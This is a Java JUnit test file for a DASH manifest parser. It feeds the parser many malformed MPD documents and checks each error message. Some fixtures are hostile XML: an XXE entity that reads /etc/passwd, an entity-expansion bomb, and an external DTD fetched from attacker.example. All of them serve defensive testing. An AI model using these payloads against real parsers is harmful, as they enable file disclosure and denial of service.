package io.glass2glass.player.manifest;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URI;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class DashParserMalformedTest {

    private static final URI URL = URI.create("https://cdn.example.com/live/manifest.mpd");
    private static final String NS = "xmlns=\"urn:mpeg:dash:schema:mpd:2011\"";

    /** An MPD with one Representation whose SegmentTemplate (or replacement) is {@code inside}. */
    private static String withRepresentation(String representationAttributes, String inside) {
        return "<MPD " + NS + " type=\"static\" mediaPresentationDuration=\"PT10S\"><Period><AdaptationSet contentType=\"video\">"
                + "<Representation " + representationAttributes + ">" + inside + "</Representation></AdaptationSet></Period></MPD>";
    }

    private static String withTemplate(String template) {
        return withRepresentation("id=\"v\" bandwidth=\"1000\"", template);
    }

    static Stream<Arguments> malformedMpds() {
        return Stream.of(
                Arguments.of("empty", "", "empty MPD"),
                Arguments.of("blank", " \n\t", "empty MPD"),
                Arguments.of("garbage", "this is not XML", "malformed MPD XML at line 1, column 1: Content is not allowed in prolog."),
                Arguments.of("an HLS playlist", "#EXTM3U\n#EXT-X-TARGETDURATION:2\n", "malformed MPD XML at line 1, column 1"),
                Arguments.of("truncated", "<?xml version=\"1.0\"?>\n<MPD " + NS + " type=\"dynamic\">\n  <Period id=\"0\">\n    <Adapt",
                        "malformed MPD XML at line 4"),
                Arguments.of("unclosed element", "<MPD " + NS + "><Period></MPD>", "malformed MPD XML at line 1"),
                Arguments.of("XXE with an external entity",
                        "<?xml version=\"1.0\"?>\n<!DOCTYPE MPD [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n<MPD " + NS
                                + "><BaseURL>&xxe;</BaseURL><Period/></MPD>",
                        "MPD refused at line 2: it declares a DOCTYPE, which could define entities (XXE); MPDs have none"),
                Arguments.of("entity expansion bomb",
                        "<!DOCTYPE MPD [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">]><MPD " + NS + ">&b;</MPD>",
                        "MPD refused at line 1: it declares a DOCTYPE"),
                Arguments.of("HTML", "<html><body>404</body></html>", "not an MPD: the root element is <html>"),
                Arguments.of("MPD in another namespace", "<MPD xmlns=\"urn:example:other\"><Period/></MPD>",
                        "not an MPD: the root element is <MPD> in namespace urn:example:other"),
                Arguments.of("no Period", "<MPD " + NS + " type=\"static\"/>", "MPD has no Period"),
                Arguments.of("unknown type", "<MPD " + NS + " type=\"live\"><Period/></MPD>", "MPD type must be static or dynamic: 'live'"),
                Arguments.of("dynamic without availabilityStartTime", "<MPD " + NS + " type=\"dynamic\"><Period/></MPD>",
                        "dynamic MPD without availabilityStartTime"),
                Arguments.of("negative duration", "<MPD " + NS + " minBufferTime=\"-PT2S\"><Period/></MPD>",
                        "MPD minBufferTime must not be negative: '-PT2S'"),
                Arguments.of("duration in seconds", "<MPD " + NS + " minimumUpdatePeriod=\"2\"><Period/></MPD>",
                        "MPD minimumUpdatePeriod is not an xs:duration: '2'"),
                Arguments.of("bad date", "<MPD " + NS + " type=\"dynamic\" availabilityStartTime=\"now\"><Period/></MPD>",
                        "MPD availabilityStartTime is not an ISO 8601 date and time: 'now'"),
                Arguments.of("negative Period start", "<MPD " + NS + "><Period id=\"p\" start=\"-PT1S\"/></MPD>",
                        "Period 'p' start must not be negative: '-PT1S'"),
                Arguments.of("Representation without bandwidth", withRepresentation("id=\"v\"", ""),
                        "Period 1 AdaptationSet 1 Representation 'v': missing required attribute bandwidth"),
                Arguments.of("Representation without id", withRepresentation("bandwidth=\"1\"", ""),
                        "Period 1 AdaptationSet 1 Representation 1: missing required attribute id"),
                Arguments.of("bandwidth not a number", withRepresentation("id=\"v\" bandwidth=\"1.5Mbps\"", ""),
                        "Period 1 AdaptationSet 1 Representation 'v' bandwidth is not an integer: '1.5Mbps'"),
                Arguments.of("frame rate over zero", withRepresentation("id=\"v\" bandwidth=\"1\" frameRate=\"30/0\"", ""),
                        "Period 1 AdaptationSet 1 Representation 'v' frameRate has a zero denominator: '30/0'"),
                Arguments.of("template without media", withTemplate("<SegmentTemplate duration=\"2\"/>"), "missing media template"),
                Arguments.of("template without duration or timeline", withTemplate("<SegmentTemplate media=\"$Number$.m4s\"/>"),
                        "neither a positive duration nor a SegmentTimeline"),
                Arguments.of("zero timescale", withTemplate("<SegmentTemplate timescale=\"0\" duration=\"2\" media=\"$Number$.m4s\"/>"),
                        "timescale must not be 0"),
                Arguments.of("unknown identifier", withTemplate("<SegmentTemplate duration=\"2\" media=\"$Segment$.m4s\"/>"),
                        "unknown identifier $Segment$ in '$Segment$.m4s'"),
                Arguments.of("unterminated identifier", withTemplate("<SegmentTemplate duration=\"2\" media=\"$Number.m4s\"/>"),
                        "unterminated $ identifier in '$Number.m4s'"),
                Arguments.of("bad format tag", withTemplate("<SegmentTemplate duration=\"2\" media=\"$Number%5s$.m4s\"/>"),
                        "unsupported format tag '%5s'"),
                Arguments.of("$Number$ in initialization",
                        withTemplate("<SegmentTemplate duration=\"2\" initialization=\"$Number$.mp4\" media=\"$Number$.m4s\"/>"),
                        "$Number$ is not allowed here: '$Number$.mp4'"),
                Arguments.of("S without d", withTemplate("<SegmentTemplate media=\"$Time$.m4s\"><SegmentTimeline><S t=\"0\"/></SegmentTimeline></SegmentTemplate>"),
                        "S[1]: missing required attribute d"),
                Arguments.of("S with zero d", withTemplate("<SegmentTemplate media=\"$Time$.m4s\"><SegmentTimeline><S d=\"0\"/></SegmentTimeline></SegmentTemplate>"),
                        "S[1]: d must be positive"),
                Arguments.of("S with negative d", withTemplate("<SegmentTemplate media=\"$Time$.m4s\"><SegmentTimeline><S d=\"-2\"/></SegmentTimeline></SegmentTemplate>"),
                        "S[1] d must not be negative: '-2'"),
                Arguments.of("S with r below -1", withTemplate("<SegmentTemplate media=\"$Time$.m4s\"><SegmentTimeline><S d=\"2\" r=\"-2\"/></SegmentTimeline></SegmentTemplate>"),
                        "S[1]: r must be -1 or more: '-2'"),
                Arguments.of("absurd repeat", withTemplate("<SegmentTemplate media=\"$Time$.m4s\"><SegmentTimeline><S d=\"2\" r=\"1000000000000\"/></SegmentTimeline></SegmentTemplate>"),
                        "more than 100000 segments in a SegmentTimeline"),
                Arguments.of("repeats adding up", withTemplate("<SegmentTemplate media=\"$Time$.m4s\"><SegmentTimeline><S d=\"2\" r=\"60000\"/><S d=\"3\" r=\"60000\"/></SegmentTimeline></SegmentTemplate>"),
                        "more than 100000 segments in a SegmentTimeline"),
                Arguments.of("times past the range of a long", withTemplate("<SegmentTemplate media=\"$Time$.m4s\"><SegmentTimeline><S t=\"9223372036854775000\" d=\"1000\" r=\"5\"/></SegmentTimeline></SegmentTemplate>"),
                        "S[1]: times out of range"),
                Arguments.of("BaseURL on another scheme", "<MPD " + NS + "><BaseURL>ftp://example.com/</BaseURL><Period/></MPD>",
                        "MPD BaseURL: only http and https URIs are supported: 'ftp://example.com/'"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("malformedMpds")
    void refusesMalformedMpdsWithAClearMessage(String name, String xml, String message) {
        ManifestException e = assertThrows(ManifestException.class, () -> DashParser.parse(xml, URL));
        assertTrue(e.getMessage().contains(message), () -> "expected \"" + message + "\" in \"" + e.getMessage() + "\"");
    }

    @Test
    void refusesADoctypeSoNoEntityIsEverResolved() {
        String xxe = "<?xml version=\"1.0\"?><!DOCTYPE MPD SYSTEM \"http://attacker.example/evil.dtd\"><MPD " + NS + "><Period/></MPD>";
        ManifestException e = assertThrows(ManifestException.class, () -> DashParser.parse(xxe, URL));
        assertTrue(e.getMessage().contains("DOCTYPE"), e.getMessage());
    }

    @Test
    void refusesATextOverEightMebibytes() {
        String huge = "<MPD " + NS + "><!--" + "x".repeat(ManifestLimits.MAX_TEXT_BYTES) + "--><Period/></MPD>";
        ManifestException e = assertThrows(ManifestException.class, () -> DashParser.parse(huge, URL));
        assertEquals("MPD is larger than 8388608 bytes", e.getMessage());
    }

    @Test
    void refusesMoreThanOneHundredThousandRepresentations() {
        StringBuilder xml = new StringBuilder("<MPD " + NS + "><Period><AdaptationSet>");
        for (int i = 0; i <= ManifestLimits.MAX_ENTRIES; i++) {
            xml.append("<Representation id=\"r\" bandwidth=\"1\"/>");
        }
        xml.append("</AdaptationSet></Period></MPD>");
        ManifestException e = assertThrows(ManifestException.class, () -> DashParser.parse(xml.toString(), URL));
        assertEquals("more than 100000 Representations in an MPD", e.getMessage());
    }

    @Test
    void refusesAnMpdUrlThatIsNotHttp() {
        assertThrows(ManifestException.class, () -> DashParser.parse("<MPD " + NS + "><Period/></MPD>", URI.create("file:///tmp/x.mpd")));
        assertThrows(ManifestException.class, () -> DashParser.parse(null, URL));
    }
}
